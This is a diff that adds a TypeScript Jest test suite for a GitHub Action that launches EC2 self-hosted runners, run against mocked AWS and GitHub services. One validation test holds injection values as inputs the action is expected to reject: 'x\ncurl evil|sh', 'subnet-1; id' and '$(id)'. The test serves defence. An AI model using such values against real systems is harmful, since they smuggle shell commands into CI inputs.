@@ -1,0 +1,361 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from '@jest/globals'
+import { describeWith } from '../counterparts.ts'
+import { type Cloud, images, keys, startCloud } from './runner/cloud.ts'
+
+describeWith(['moto', 'github-openapi'], 'the action runner', (moto, openapi) => {
+  let cloud: Cloud
+  beforeAll(async () => {
+    cloud = await startCloud(moto, openapi)
+  })
+  beforeEach(async () => await cloud.reset())
+  afterEach(() => {
+    expect([cloud.ec2.violations, cloud.github.violations]).toEqual([[], []])
+  })
+  afterAll(async () => await cloud.stop())
+
+  const capacity = { status: 400, code: 'InsufficientInstanceCapacity', message: 'No room.' }
+  const types = 'c5.large c6i.large m5.large m6i.large'
+  const asked = (action: string): readonly Readonly<Record<string, string>>[] =>
+    cloud.ec2.requests.filter((one) => one.action === action).map(({ parameters }) => Object.fromEntries(parameters))
+  const tokens = (): readonly string[] =>
+    cloud.ec2.requests.flatMap(({ action, parameters }) => {
+      const token = parameters.get('ClientToken')
+      return token === undefined ? [] : [`${action} ${token.replace(/^crisol-\w{8}-/u, '')}`]
+    })
+  const trace = async (): Promise<readonly number[]> => [(await cloud.living()).size, cloud.github.state.runners.length]
+  const nothing = [0, 0]
+
+  it('launches in two calls, one after the other, and sends all that makes the instance safe and found again', async () => {
+    const { status, outputs, state } = await cloud.step('main', {
+      subnets: await aSubnet(cloud),
+      'security-groups': await aGroup(cloud),
+      'volume-size': '50',
+    })
+    const [[id = '', tags] = []] = await cloud.living()
+    const [runner] = cloud.github.state.runners
+    const nonce = state['nonce'] ?? ''
+    const label = `crisol-7-review-${nonce}`
+    expect({ status, outputs, state }).toEqual({
+      status: 0,
+      outputs: { label, 'instance-ids': id, 'instance-type': 'c5.large', market: 'on-demand' },
+      state: { nonce, launched: 'true' },
+    })
+    expect(cloud.actions().filter((action) => !/Subnet|Security/u.test(action))).toEqual([
+      'DescribeImages',
+      'RunInstances',
+    ])
+    expect(runner).toMatchObject({ status: 'offline', labels: [label], group: 1 })
+    const { UserData = '', ...sent } = asked('RunInstances')[0] ?? {}
+    const expires = tags?.get('crisol:expires') ?? ''
+    const pairs = {
+      ...{ Name: `crisol ${label}`, 'crisol:repo': 'octocat/breast-cancer', 'crisol:run': '7' },
+      ...{ 'crisol:label': label, 'crisol:runner': String(runner?.id), 'crisol:nonce': nonce },
+      'crisol:expires': expires,
+    }
+    expect(sent).toEqual({
+      ...{ Action: 'RunInstances', Version: '2016-11-15', ImageId: images.x86, InstanceType: 'c5.large' },
+      ...{ MinCount: '1', MaxCount: '1', ClientToken: `crisol-${nonce}-1-1` },
+      ...{ SubnetId: await aSubnet(cloud), 'SecurityGroupId.1': await aGroup(cloud) },
+      InstanceInitiatedShutdownBehavior: 'terminate',
+      ...{ 'MetadataOptions.HttpTokens': 'required', 'MetadataOptions.HttpPutResponseHopLimit': '1' },
+      ...{ 'MetadataOptions.HttpEndpoint': 'enabled', 'BlockDeviceMapping.1.DeviceName': '/dev/sda1' },
+      ...{ 'BlockDeviceMapping.1.Ebs.VolumeType': 'gp3', 'BlockDeviceMapping.1.Ebs.VolumeSize': '50' },
+      ...{ 'BlockDeviceMapping.1.Ebs.Encrypted': 'true', 'BlockDeviceMapping.1.Ebs.DeleteOnTermination': 'true' },
+      ...tagged(['instance', 'volume', 'network-interface'], pairs),
+    })
+    expect(Object.fromEntries(tags ?? [])).toEqual(pairs)
+    expect(Buffer.from(UserData, 'base64').length).toBeLessThanOrEqual(16_384)
+    expect(Number(expires)).toBeGreaterThan(Date.now() + 360 * 60_000)
+  })
+
+  it('asks for a spot instance without a highest price, and tags its request', async () => {
+    const { outputs } = await cloud.step('main', { market: 'spot' })
+    const sent = Object.entries(asked('RunInstances')[0] ?? {}).filter(([name]) => /Market|ResourceType/u.test(name))
+    expect([outputs['market'], Object.fromEntries(sent)]).toEqual([
+      'spot',
+      {
+        'InstanceMarketOptions.MarketType': 'spot',
+        'InstanceMarketOptions.SpotOptions.SpotInstanceType': 'one-time',
+        'InstanceMarketOptions.SpotOptions.InstanceInterruptionBehavior': 'terminate',
+        'TagSpecification.1.ResourceType': 'instance',
+        'TagSpecification.2.ResourceType': 'volume',
+        'TagSpecification.3.ResourceType': 'network-interface',
+        'TagSpecification.4.ResourceType': 'spot-instances-request',
+      },
+    ])
+  })
+
+  it('goes on to a fleet of the other types, which leaves no template behind', async () => {
+    cloud.ec2.fail({ action: 'RunInstances', does: capacity })
+    const { outputs } = await cloud.step('main', { 'instance-types': types })
+    expect([outputs['instance-type'], cloud.actions().slice(1)]).toEqual([
+      'c6i.large',
+      ['RunInstances', 'CreateLaunchTemplate', 'CreateFleet', 'DeleteLaunchTemplate'],
+    ])
+    expect(tokens()).toEqual(['RunInstances 1-1', 'CreateLaunchTemplate 1-2', 'CreateFleet 1-2'])
+    expect(asked('CreateLaunchTemplate')[0]).toMatchObject({
+      'LaunchTemplateData.MetadataOptions.HttpTokens': 'required',
+      'LaunchTemplateData.InstanceInitiatedShutdownBehavior': 'terminate',
+    })
+  })
+
+  it('goes on on demand when a fleet answers 200 with nothing but reasons', async () => {
+    const reason = '<item><errorCode>InsufficientInstanceCapacity</errorCode><errorMessage>None.</errorMessage></item>'
+    cloud.ec2.fail({ action: 'RunInstances', does: { ...capacity, status: 500 } })
+    cloud.ec2.fail({
+      action: 'CreateFleet',
+      does: { xml: `<CreateFleetResponse><errorSet>${reason}</errorSet><fleetInstanceSet/></CreateFleetResponse>` },
+    })
+    const { outputs } = await cloud.step('main', { 'instance-types': types, market: 'spot-then-on-demand' })
+    expect([outputs['market'], tokens()]).toEqual([
+      'on-demand',
+      ['RunInstances 1-1', 'CreateLaunchTemplate 1-2', 'CreateFleet 1-2', 'RunInstances 1-3'],
+    ])
+  })
+
+  it.each([
+    { does: { status: 503, code: 'RequestLimitExceeded' }, times: 2 },
+    { does: 'lost', times: 1 },
+    { does: 'reset', times: 1 },
+    { does: { status: 500, code: 'InternalError' }, times: 1 },
+    { does: { xml: '<html>Sign in</html>' }, times: 1 },
+  ] as const)('starts one instance when the first answers are $does', async ({ does, times }) => {
+    cloud.ec2.fail({ action: 'RunInstances', times, does })
+    const { status } = await cloud.step('main')
+    const isStranger = typeof does === 'object' && 'xml' in does
+    expect([status, await trace(), new Set(tokens()).size]).toEqual(isStranger ? [1, nothing, 1] : [0, [1, 1], 1])
+  })
+
+  it('names all that was tried when there is no room anywhere, and leaves nothing', async () => {
+    cloud.ec2.fail({ action: 'RunInstances', times: 9, does: capacity })
+    const { status, stdout } = await cloud.step('main', {
+      'instance-types': 'c5.large c6i.large',
+      market: 'spot-then-on-demand',
+    })
+    expect([status, stdout, await trace()]).toEqual([
+      1,
+      '::error::AWS has none of what was asked for: spot c5.large, spot c6i.large, on-demand c5.large, on-demand c6i.large (InsufficientInstanceCapacity: No room).\n',
+      nothing,
+    ])
+  })
+
+  it('starts as many as a matrix has jobs, or none of them', async () => {
+    const { outputs } = await cloud.step('main', { count: '3', label: 'gpu' })
+    expect([outputs['label'], outputs['instance-ids']?.split(' ').length, await trace()]).toEqual(['gpu', 3, [3, 3]])
+    await cloud.reset()
+    let number = 0
+    cloud.ec2.fail({ action: 'RunInstances', times: 1, when: () => ++number === 3, does: capacity })
+    expect([(await cloud.step('main', { count: '3' })).status, await trace()]).toEqual([1, nothing])
+  })
+
+  it.each([
+    {
+      fault: { status: 403, code: 'UnauthorizedOperation', message: 'You are not authorized.' },
+      says: 'The AWS credentials may not start an instance (UnauthorizedOperation); they need ec2:RunInstances. docs/iam has the least policies.',
+    },
+    {
+      fault: { status: 400, code: 'VcpuLimitExceeded', message: 'You have 0 vCPU of your limit.' },
+      says: 'AWS has none of what was asked for: on-demand c5.large (VcpuLimitExceeded: You have 0 vCPU of your limit).',
+    },
+    {
+      fault: { status: 400, code: 'RequestExpired', message: 'Request has expired.' },
+      says: 'The AWS credentials have expired; ask for new ones (RequestExpired: Request has expired).',
+    },
+    {
+      fault: { status: 400, code: 'InvalidSubnetID.NotFound', message: 'No such subnet.' },
+      says: 'Input subnets names a subnet that is not there in this region (InvalidSubnetID.NotFound: No such subnet).',
+    },
+    {
+      fault: { status: 403, code: 'AuthFailure.ServiceLinkedRoleCreationNotPermitted', message: 'No.' },
+      says: 'Spot needs the role AWSServiceRoleForEC2Spot, which this account does not have: make it with aws iam create-service-linked-role --aws-service-name spot.amazonaws.com, or let the credentials do so (AuthFailure.ServiceLinkedRoleCreationNotPermitted: No).',
+    },
+  ])('says of $fault.code what it means, and leaves nothing', async ({ fault, says }) => {
+    cloud.ec2.fail({ action: 'RunInstances', does: fault })
+    const { status, stdout } = await cloud.step('main')
+    expect([status, stdout, await trace()]).toEqual([1, `::error::${says}\n`, nothing])
+  })
+
+  it.each([
+    { inputs: { 'instance-types': '' }, says: /^Input instance-types is empty/u },
+    { inputs: { label: 'x\ncurl evil|sh' }, says: /^Input label is "x\\ncurl evil\|sh"/u },
+    { inputs: { subnets: 'subnet-1; id' }, says: /^Input subnets has "subnet-1;"/u },
+    { inputs: { 'max-minutes': '9000' }, says: /^Input max-minutes is "9000"/u },
+    { inputs: { 'github-token': '' }, says: /^Inputs github-token and app-id are both empty/u },
+    { inputs: { 'runner-directory': '$(id)' }, says: /^Input runner-directory is "\$\(id\)"/u },
+  ])('asks nobody for anything with $inputs', async ({ inputs, says }) => {
+    const calls = cloud.github.log.length
+    const { status, stdout, state } = await cloud.step('main', inputs as Readonly<Record<string, string>>)
+    expect([status, stdout.replace('::error::', '')]).toEqual([1, expect.stringMatching(says)])
+    expect([cloud.actions(), cloud.github.log.length - calls, state]).toEqual([[], 0, {}])
+    expect((await cloud.step('post', inputs as Readonly<Record<string, string>>, { state })).status).toBe(0)
+  })
+
+  it.each([
+    { inputs: { image: images.arm }, says: `The image ${images.arm} is for arm64 and c5.large is x86_64; choose` },
+    { inputs: { image: images.foreign }, says: `The image ${images.foreign} is not there in eu-west-1, or belongs to` },
+    { inputs: { image: 'ssm:/aws/service/none' }, says: 'Input image names the parameter /aws/service/none, which' },
+    { inputs: { 'volume-size': '4' }, says: `Input volume-size is 4 GiB and the image ${images.x86} needs 8;` },
+  ])('launches and registers nothing with $inputs', async ({ inputs, says }) => {
+    const { status, stdout } = await cloud.step('main', inputs as Readonly<Record<string, string>>)
+    expect([status, stdout.startsWith(`::error::${says}`), asked('RunInstances'), await trace()]).toEqual([
+      ...[1, true, [], nothing],
+    ])
+  })
+
+  it('starts from the image that a public parameter names, or from one of an account that is trusted', async () => {
+    cloud.ec2.aliases.set('/aws/service/any/ami', images.x86)
+    await cloud.step('main', { image: 'ssm:/aws/service/any/ami' })
+    await cloud.step('main', { image: images.foreign, 'image-owners': '999999999999' })
+    expect(asked('RunInstances').map(({ ImageId }) => ImageId)).toEqual([images.x86, images.foreign])
+  })
+
+  it.each([
+    { does: { status: 401, json: { message: 'Bad credentials' } }, status: 1 },
+    { does: { status: 403, json: { message: 'Resource not accessible' } }, status: 1 },
+    { does: { status: 429, json: { message: 'Slow down' }, headers: { 'retry-after': '1' } }, status: 0 },
+    { does: 'reset-after', status: 0 },
+    { does: 'reset-before', status: 0 },
+    { does: { status: 502, json: {} }, status: 0 },
+    { does: 'html', status: 1 },
+  ] as const)('leaves one runner or none when GitHub answers $does', async ({ does, status }) => {
+    cloud.github.fail({ on: /POST .*generate-jitconfig/u, does })
+    expect([(await cloud.step('main')).status, await trace()]).toEqual([status, status === 0 ? [1, 1] : nothing])
+  })
+
+  it('waits until the runner is online where it is asked to', async () => {
+    const come = (): boolean => {
+      const [runner] = cloud.github.state.runners
+      if (runner !== undefined && cloud.actions().includes('RunInstances')) runner.status = 'online'
+      return false
+    }
+    const { status } = await cloud.step('main', { wait: 'online' }, { endWith: { signal: 'SIGTERM', when: come } })
+    expect([status, await trace()]).toEqual([0, [1, 1]])
+  })
+
+  it('shows the console and leaves no runner when the instance ends before it is online', async () => {
+    cloud.ec2.console = 'crisol: the runner does not have the SHA-256 that was asked for\n'
+    const before = cloud.github.log.length
+    let isEnding = false
+    const end = (): boolean => {
+      if (!isEnding && cloud.github.log.slice(before).some(({ path }) => /runners\/\d+$/u.test(path))) {
+        isEnding = true
+        void endAll(cloud)
+      }
+      return false
+    }
+    const { status, stdout } = await cloud.step(
+      'main',
+      { wait: 'online' },
+      { endWith: { signal: 'SIGTERM', when: end } },
+    )
+    expect([status, stdout.includes(cloud.ec2.console), /ended before its runner was online/u.test(stdout)]).toEqual([
+      ...[1, true, true],
+    ])
+    expect(await trace()).toEqual(nothing)
+  })
+
+  it('makes a token of a GitHub App, and hides it', async () => {
+    cloud.github.state.installation = 77
+    const app = { 'github-token': '', 'app-id': '12', 'app-private-key': keys.privateKey }
+    const { status, stdout } = await cloud.step('main', app)
+    const [token = ''] = Object.keys(cloud.github.state.minted)
+    expect([status, await trace(), stdout.startsWith(`::add-mask::${token}\n`)]).toEqual([0, [1, 1], true])
+  })
+
+  it('takes on a role by the identity of the workflow', async () => {
+    const identity = await startIdentity()
+    const keysGone = { AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '' }
+    const env = { ...keysGone, ACTIONS_ID_TOKEN_REQUEST_URL: identity.url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'ask' }
+    const role = { 'role-to-assume': 'arn:aws:iam::123456789012:role/launch' }
+    try {
+      expect([(await cloud.step('main', role, { env })).status, await trace()]).toEqual([0, [1, 1]])
+      const [sent] = asked('AssumeRoleWithWebIdentity')
+      expect(sent).toMatchObject({ RoleArn: role['role-to-assume'], WebIdentityToken: 'made-up.identity.token' })
+      const without = await cloud.step('main', role, { env: keysGone })
+      expect([without.status, without.stdout]).toEqual([
+        1,
+        '::error::Input role-to-assume needs the identity of the job; give it permissions: id-token: write.\n',
+      ])
+    } finally {
+      await identity.stop()
+    }
+  })
+
+  it('says that there are no credentials, or no region', async () => {
+    const gone = { AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '', AWS_EC2_METADATA_DISABLED: 'true' }
+    const [keyless, placeless] = [
+      await cloud.step('main', {}, { env: gone }),
+      await cloud.step('main', {}, { env: { AWS_REGION: '' } }),
+    ]
+    expect([keyless.status, /There are no AWS credentials/u.test(keyless.stdout)]).toEqual([1, true])
+    expect(placeless.stdout).toBe(
+      '::error::No AWS region is set; set AWS_REGION to one such as eu-west-1, as aws-actions/configure-aws-credentials does.\n',
+    )
+    expect(await trace()).toEqual(nothing)
+  })
+})
+
+function tagged(
+  resources: readonly string[],
+  pairs: Readonly<Record<string, string>>,
+): Readonly<Record<string, string>> {
+  return Object.fromEntries(
+    resources.flatMap((resource, index) => [
+      [`TagSpecification.${index + 1}.ResourceType`, resource],
+      ...Object.entries(pairs).flatMap(([key, value], tag) => [
+        [`TagSpecification.${index + 1}.Tag.${tag + 1}.Key`, key],
+        [`TagSpecification.${index + 1}.Tag.${tag + 1}.Value`, value],
+      ]),
+    ]),
+  )
+}
+
+async function ask(cloud: Cloud, action: string, parameters: Readonly<Record<string, string>> = {}): Promise<string> {
+  const answer = await fetch(cloud.moto.url, {
+    method: 'POST',
+    headers: {
+      'content-type': 'application/x-www-form-urlencoded',
+      authorization:
+        'AWS4-HMAC-SHA256 Credential=a/20260101/eu-west-1/ec2/aws4_request, SignedHeaders=host, Signature=b',
+    },
+    body: new URLSearchParams({ Action: action, Version: '2016-11-15', ...parameters }).toString(),
+  })
+  return await answer.text()
+}
+
+async function aSubnet(cloud: Cloud): Promise<string> {
+  return /subnet-[0-9a-f]+/u.exec(await ask(cloud, 'DescribeSubnets'))?.[0] ?? ''
+}
+
+async function aGroup(cloud: Cloud): Promise<string> {
+  return /sg-[0-9a-f]+/u.exec(await ask(cloud, 'DescribeSecurityGroups'))?.[0] ?? ''
+}
+
+async function endAll(cloud: Cloud): Promise<void> {
+  for (const id of (await cloud.living()).keys()) await ask(cloud, 'TerminateInstances', { 'InstanceId.1': id })
+}
+
+interface Identity {
+  readonly url: string
+  stop(): Promise<void>
+}
+
+/** What gives a job its identity. */
+async function startIdentity(): Promise<Identity> {
+  const server = createServer((asked, answer) => {
+    const isRight =
+      asked.url === '/?api-version=2&audience=sts.amazonaws.com' && asked.headers.authorization === 'Bearer ask'
+    answer.writeHead(isRight ? 200 : 400, { 'content-type': 'application/json' })
+    answer.end(JSON.stringify({ value: 'made-up.identity.token' }))
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/?api-version=2`,
+    stop: async () => {
+      server.closeAllConnections()
+      await new Promise((resolve) => server.close(resolve))
+    },
+  }
+}
